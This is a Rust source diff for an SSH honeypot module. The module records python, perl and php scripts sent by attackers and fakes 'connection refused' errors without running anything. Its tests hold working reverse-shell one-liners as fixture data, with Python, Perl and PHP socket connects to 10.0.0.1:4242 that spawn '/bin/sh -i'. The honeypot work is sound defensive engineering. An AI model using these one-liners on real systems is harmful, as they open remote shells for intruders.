@@ -0,0 +1,546 @@
+//! Captures scripts handed to `python`, `perl` and `php`, which is how the overwhelming
+//! majority of reverse shells are delivered. Nothing is actually run, but scripts that'd have
+//! connected out fail as if the connection was refused, which is what the client would expect
+//! to see with nothing listening on the other end.
+
+use std::{borrow::Cow, path::Path};
+
+use async_trait::async_trait;
+use pisshoff_types::audit::{AuditLogAction, InterpreterPayloadEvent, ScriptSource};
+use thrussh::ChannelId;
+
+use crate::{
+    command::{Command, CommandResult},
+    server::{ConnectionState, ThrusshSession},
+};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Language {
+    Python,
+    Perl,
+    Php,
+}
+
+impl Language {
+    /// Name the interpreter is recorded as, and reports itself as in its errors.
+    fn name(self) -> &'static str {
+        match self {
+            Self::Python => "python3",
+            Self::Perl => "perl",
+            Self::Php => "php",
+        }
+    }
+
+    /// Option taking a script to run as its argument.
+    fn script_option(self) -> char {
+        match self {
+            Self::Python => 'c',
+            Self::Perl => 'e',
+            Self::Php => 'r',
+        }
+    }
+
+    /// Other options taking an argument, which may be bundled along with them.
+    fn options_with_arguments(self) -> &'static str {
+        match self {
+            Self::Python => "WXQ",
+            Self::Perl => "MmI",
+            Self::Php => "dcz",
+        }
+    }
+
+    /// Where the interpreter says a script came from when reporting an error with it.
+    fn origin(self, source: &ScriptSource) -> &str {
+        match (self, source) {
+            (_, ScriptSource::File { path }) => path,
+            (Self::Python, ScriptSource::Argument) => "<string>",
+            (Self::Python, ScriptSource::Stdin) => "<stdin>",
+            (Self::Perl, ScriptSource::Argument) => "-e",
+            (Self::Perl, ScriptSource::Stdin) => "-",
+            (Self::Php, ScriptSource::Argument) => "Command line code",
+            (Self::Php, ScriptSource::Stdin) => "Standard input code",
+        }
+    }
+
+    /// What the interpreter prints after running `script`, which is nothing unless the script
+    /// tries connecting out.
+    fn output(self, script: &str, source: &ScriptSource) -> (String, u32) {
+        let origin = self.origin(source);
+
+        match self {
+            Self::Python => {
+                let Some(line) = script
+                    .lines()
+                    .position(|v| v.contains("connect(") || v.contains("create_connection("))
+                else {
+                    return (String::new(), 0);
+                };
+
+                (
+                    format!(
+                        "Traceback (most recent call last):\n  File \"{origin}\", line {}, in \
+                         <module>\nConnectionRefusedError: [Errno 111] Connection refused\n",
+                        line + 1
+                    ),
+                    1,
+                )
+            }
+            // the usual one-liners only spawn a shell `if (connect(...))`
+            Self::Perl => (String::new(), 0),
+            Self::Php => {
+                let warning = script.lines().enumerate().find_map(|(i, line)| {
+                    let (host, port) = fsockopen_target(line)?;
+                    Some(format!(
+                        "PHP Warning:  fsockopen(): Unable to connect to {host}:{port} \
+                         (Connection refused) in {origin} on line {}\n",
+                        i + 1
+                    ))
+                });
+
+                (warning.unwrap_or_default(), 0)
+            }
+        }
+    }
+
+    /// What the interpreter prints when it's given an option without the argument it takes.
+    fn missing_argument(self, option: char) -> (String, u32) {
+        match self {
+            Self::Python => (
+                format!(
+                    "Argument expected for the -{option} option\nusage: python3 [option] ... \
+                     [-c cmd | -m mod | file | -] [arg] ...\nTry `python -h' for more \
+                     information.\n"
+                ),
+                2,
+            ),
+            Self::Perl => (format!("No code specified for -{option}.\n"), 2),
+            Self::Php => (
+                format!("Error in argument 1, char 2: no argument for option {option}\n"),
+                1,
+            ),
+        }
+    }
+
+    /// What the interpreter prints when it's asked to run a script that doesn't exist.
+    fn missing_file(self, file: &str, path: &str) -> (String, u32) {
+        match self {
+            Self::Python => (
+                format!("python3: can't open file '{path}': [Errno 2] No such file or directory\n"),
+                2,
+            ),
+            Self::Perl => (
+                format!("Can't open perl script \"{file}\": No such file or directory\n"),
+                2,
+            ),
+            Self::Php => (format!("Could not open input file: {file}\n"), 1),
+        }
+    }
+}
+
+/// Host and port a line of PHP passes to `fsockopen`, provided they're literals rather than
+/// variables we'd have no way of knowing the value of.
+fn fsockopen_target(line: &str) -> Option<(&str, &str)> {
+    let (_, args) = line.split_once("fsockopen(")?;
+    let mut args = args
+        .split([',', ')'])
+        .map(|v| v.trim().trim_matches(['"', '\'']));
+
+    let host = args
+        .next()
+        .filter(|v| !v.is_empty() && !v.starts_with('$'))?;
+    let port = args.next().filter(|v| v.parse::<u16>().is_ok())?;
+
+    Some((host, port))
+}
+
+/// Line that ends a heredoc.
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct Delimiter {
+    word: String,
+    /// Whether leading tabs are stripped from each line, as with `<<-`.
+    strip_tabs: bool,
+}
+
+/// How the interpreter was asked to find the script it's to run.
+#[derive(Debug, PartialEq, Eq)]
+enum Invocation {
+    Argument(String),
+    File(String),
+    /// The script is read from stdin, up until the delimiter if it's being given as a heredoc.
+    Stdin(Option<Delimiter>),
+    /// Python was asked to run a module with `-m`, which more often than not is something
+    /// like `http.server` waiting to be killed.
+    Module,
+    MissingArgument(char),
+}
+
+fn parse(language: Language, params: &[String]) -> Invocation {
+    // heredocs aren't understood by the shell, so come through to us as an argument
+    let heredoc = params.iter().position(|v| v.starts_with("<<"));
+    let delimiter = heredoc.map(|i| {
+        let rest = params[i].strip_prefix("<<").unwrap_or_default();
+        let strip_tabs = rest.starts_with('-');
+        let word = rest.trim_start_matches('-');
+        let word = if word.is_empty() {
+            params.get(i + 1).map_or("", String::as_str)
+        } else {
+            word
+        };
+
+        Delimiter {
+            word: word.to_string(),
+            strip_tabs,
+        }
+    });
+
+    let mut scripts = Vec::new();
+    let mut params = params[..heredoc.unwrap_or(params.len())].iter();
+
+    while let Some(param) = params.next() {
+        let Some(options) = param
+            .strip_prefix('-')
+            .filter(|v| !v.is_empty() && !v.starts_with('-'))
+        else {
+            match param.as_str() {
+                "-" => break,
+                v if v.starts_with("--") => continue,
+                _ if !scripts.is_empty() => break,
+                file => return Invocation::File(file.to_string()),
+            }
+        };
+
+        for (i, option) in options.char_indices() {
+            let rest = &options[i + option.len_utf8()..];
+            let takes_script =
+                option == language.script_option() || (language == Language::Php && option == 'f');
+
+            if language == Language::Python && option == 'm' {
+                return Invocation::Module;
+            }
+
+            if takes_script {
+                let Some(arg) = Some(rest)
+                    .filter(|v| !v.is_empty())
+                    .or_else(|| params.next().map(String::as_str))
+                else {
+                    return Invocation::MissingArgument(option);
+                };
+
+                if option == 'f' {
+                    return Invocation::File(arg.to_string());
+                }
+
+                scripts.push(arg);
+                break;
+            }
+
+            if language.options_with_arguments().contains(option) {
+                if rest.is_empty() {
+                    params.next();
+                }
+
+                break;
+            }
+        }
+
+        // perl takes as many `-e`s as it's given, anything after the script is its arguments
+        if !scripts.is_empty() && language != Language::Perl {
+            break;
+        }
+    }
+
+    if scripts.is_empty() {
+        Invocation::Stdin(delimiter)
+    } else {
+        Invocation::Argument(scripts.join("\n"))
+    }
+}
+
+/// A script being read from stdin.
+#[derive(Debug, Clone, Default)]
+pub struct Pending {
+    delimiter: Option<Delimiter>,
+    script: Vec<u8>,
+}
+
+fn record(
+    connection: &mut ConnectionState,
+    language: Language,
+    source: ScriptSource,
+    script: &str,
+) {
+    connection
+        .audit_log()
+        .push_action(AuditLogAction::InterpreterPayload(
+            InterpreterPayloadEvent {
+                interpreter: Cow::Borrowed(language.name()),
+                source,
+                script: script.into(),
+            },
+        ));
+}
+
+/// Records `script`, printing whatever the interpreter would have after running it.
+fn run<S: ThrusshSession + Send>(
+    language: Language,
+    connection: &mut ConnectionState,
+    source: ScriptSource,
+    script: &str,
+    channel: ChannelId,
+    session: &mut S,
+) -> u32 {
+    let (out, status) = language.output(script, &source);
+    record(connection, language, source, script);
+
+    if !out.is_empty() {
+        session.data(channel, out.into());
+    }
+
+    status
+}
+
+fn start<S: ThrusshSession + Send>(
+    language: Language,
+    connection: &mut ConnectionState,
+    params: &[String],
+    channel: ChannelId,
+    session: &mut S,
+) -> CommandResult<Pending> {
+    match parse(language, params) {
+        Invocation::Argument(script) => CommandResult::Exit(run(
+            language,
+            connection,
+            ScriptSource::Argument,
+            &script,
+            channel,
+            session,
+        )),
+        Invocation::File(file) => {
+            let path = connection.file_system().canonicalize(Path::new(&file));
+            let path = path.to_string_lossy();
+
+            let Ok(content) = connection.file_system().read(Path::new(&file)) else {
+                let (out, status) = language.missing_file(&file, &path);
+                session.data(channel, out.into());
+                return CommandResult::Exit(status);
+            };
+
+            let script = String::from_utf8_lossy(content).into_owned();
+            let source = ScriptSource::File { path: path.into() };
+            CommandResult::Exit(run(language, connection, source, &script, channel, session))
+        }
+        Invocation::Stdin(delimiter) => CommandResult::ReadStdin(Pending {
+            delimiter,
+            script: Vec::new(),
+        }),
+        Invocation::Module => CommandResult::Exit(0),
+        Invocation::MissingArgument(option) => {
+            let (out, status) = language.missing_argument(option);
+            session.data(channel, out.into());
+            CommandResult::Exit(status)
+        }
+    }
+}
+
+fn read<S: ThrusshSession + Send>(
+    language: Language,
+    mut pending: Pending,
+    connection: &mut ConnectionState,
+    channel: ChannelId,
+    data: &[u8],
+    session: &mut S,
+) -> CommandResult<Pending> {
+    let Some(delimiter) = &pending.delimiter else {
+        let script = String::from_utf8_lossy(data);
+        return CommandResult::Exit(run(
+            language,
+            connection,
+            ScriptSource::Stdin,
+            &script,
+            channel,
+            session,
+        ));
+    };
+
+    pending.script.extend_from_slice(data);
+    if !pending.script.ends_with(b"\n") {
+        pending.script.push(b'\n');
+    }
+
+    let script = String::from_utf8_lossy(&pending.script);
+    let mut lines = Vec::new();
+
+    for line in script.lines() {
+        let line = if delimiter.strip_tabs {
+            line.trim_start_matches('\t')
+        } else {
+            line
+        };
+
+        if line.trim_end_matches('\r') == delimiter.word {
+            let script = lines.join("\n");
+            return CommandResult::Exit(run(
+                language,
+                connection,
+                ScriptSource::Stdin,
+                &script,
+                channel,
+                session,
+            ));
+        }
+
+        lines.push(line);
+    }
+
+    CommandResult::ReadStdin(pending)
+}
+
+macro_rules! interpreter {
+    ($name:ident, $language:ident, $command:literal, [$($alias:literal),*]) => {
+        #[derive(Debug, Clone)]
+        pub struct $name(Pending);
+
+        #[async_trait]
+        impl Command for $name {
+            const NAME: &'static str = $command;
+            const ALIASES: &'static [&'static str] = &[$($alias),*];
+
+            async fn new<S: ThrusshSession + Send>(
+                connection: &mut ConnectionState,
+                params: &[String],
+                channel: ChannelId,
+                session: &mut S,
+            ) -> CommandResult<Self> {
+                start(Language::$language, connection, params, channel, session).map(Self)
+            }
+
+            async fn stdin<S: ThrusshSession + Send>(
+                self,
+                connection: &mut ConnectionState,
+                channel: ChannelId,
+                data: &[u8],
+                session: &mut S,
+            ) -> CommandResult<Self> {
+                read(Language::$language, self.0, connection, channel, data, session).map(Self)
+            }
+        }
+    };
+}
+
+interpreter!(Python, Python, "python", ["python3", "python2"]);
+interpreter!(Perl, Perl, "perl", []);
+interpreter!(Php, Php, "php", []);
+
+#[cfg(test)]
+mod test {
+    use mockall::predicate::always;
+    use pisshoff_types::audit::{AuditLogAction, ScriptSource};
+    use test_case::test_case;
+
+    use crate::{
+        command::{
+            interpreter::{parse, Delimiter, Invocation, Language, Python},
+            Command, CommandResult,
+        },
+        server::{
+            test::{fake_channel_id, predicate::eq_string},
+            ConnectionState, MockThrusshSession,
+        },
+    };
+
+    #[test_case(Language::Python, "-c 'import os'", Invocation::Argument("import os".into()); "python")]
+    #[test_case(Language::Python, "-Sc 'import os' x", Invocation::Argument("import os".into()); "bundled")]
+    #[test_case(Language::Python, "-W ignore x.py", Invocation::File("x.py".into()); "file")]
+    #[test_case(Language::Python, "-m http.server", Invocation::Module; "module")]
+    #[test_case(Language::Python, "-c", Invocation::MissingArgument('c'); "missing")]
+    #[test_case(Language::Perl, "-MIO -e 'a' -e 'b'", Invocation::Argument("a\nb".into()); "perl")]
+    #[test_case(Language::Perl, "-le 'print 1'", Invocation::Argument("print 1".into()); "perl bundled")]
+    #[test_case(Language::Php, "-r 'echo 1;'", Invocation::Argument("echo 1;".into()); "php")]
+    #[test_case(Language::Php, "-d x=1 -f x.php", Invocation::File("x.php".into()); "php file")]
+    #[test_case(Language::Python, "-", Invocation::Stdin(None); "stdin")]
+    #[test_case(Language::Python, "- <<'EOF'", Invocation::Stdin(Some(Delimiter { word: "EOF".into(), strip_tabs: false })); "heredoc")]
+    #[test_case(Language::Perl, "<<- END", Invocation::Stdin(Some(Delimiter { word: "END".into(), strip_tabs: true })); "stripped heredoc")]
+    fn parses(language: Language, input: &str, expected: Invocation) {
+        let input = shlex::split(input).unwrap();
+        assert_eq!(parse(language, &input), expected);
+    }
+
+    #[test_case(Language::Python, "import socket;s=socket.socket();s.connect((\"10.0.0.1\",4242))", "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nConnectionRefusedError: [Errno 111] Connection refused\n", 1; "python")]
+    #[test_case(Language::Python, "print(1)", "", 0; "python silent")]
+    #[test_case(Language::Perl, "use Socket;if(connect(S,sockaddr_in(4242,inet_aton(\"10.0.0.1\")))){exec(\"/bin/sh -i\");};", "", 0; "perl")]
+    #[test_case(Language::Php, "$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");", "PHP Warning:  fsockopen(): Unable to connect to 10.0.0.1:4242 (Connection refused) in Command line code on line 1\n", 0; "php")]
+    #[test_case(Language::Php, "$sock=fsockopen($ip,$port);", "", 0; "php variables")]
+    fn outputs(language: Language, script: &str, expected: &str, status: u32) {
+        assert_eq!(
+            language.output(script, &ScriptSource::Argument),
+            (expected.to_string(), status)
+        );
+    }
+
+    #[tokio::test]
+    async fn reads_heredoc() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        session
+            .expect_data()
+            .once()
+            .with(
+                always(),
+                eq_string(
+                    "Traceback (most recent call last):\n  File \"<stdin>\", line 2, in \
+                     <module>\nConnectionRefusedError: [Errno 111] Connection refused\n",
+                ),
+            )
+            .returning(|_, _| ());
+
+        let out = Python::new(
+            &mut state,
+            &["-".to_string(), "<<EOF".to_string()],
+            fake_channel_id(),
+            &mut session,
+        )
+        .await;
+        let CommandResult::ReadStdin(out) = out else {
+            panic!("expected stdin to be read, got {out:?}");
+        };
+
+        let out = out
+            .stdin(
+                &mut state,
+                fake_channel_id(),
+                b"import socket\n",
+                &mut session,
+            )
+            .await;
+        let CommandResult::ReadStdin(out) = out else {
+            panic!("expected stdin to be read, got {out:?}");
+        };
+
+        let out = out
+            .stdin(
+                &mut state,
+                fake_channel_id(),
+                b"socket.create_connection((\"10.0.0.1\", 4242))\nEOF\n",
+                &mut session,
+            )
+            .await;
+        assert!(matches!(out, CommandResult::Exit(1)), "{out:?}");
+
+        let payload = state
+            .audit_log()
+            .events
+            .iter()
+            .find_map(|v| match &v.action {
+                AuditLogAction::InterpreterPayload(v) => Some(v),
+                _ => None,
+            })
+            .unwrap();
+        assert_eq!(&*payload.interpreter, "python3");
+        assert_eq!(payload.source, ScriptSource::Stdin);
+        assert_eq!(
+            &*payload.script,
+            "import socket\nsocket.create_connection((\"10.0.0.1\", 4242))"
+        );
+    }
+}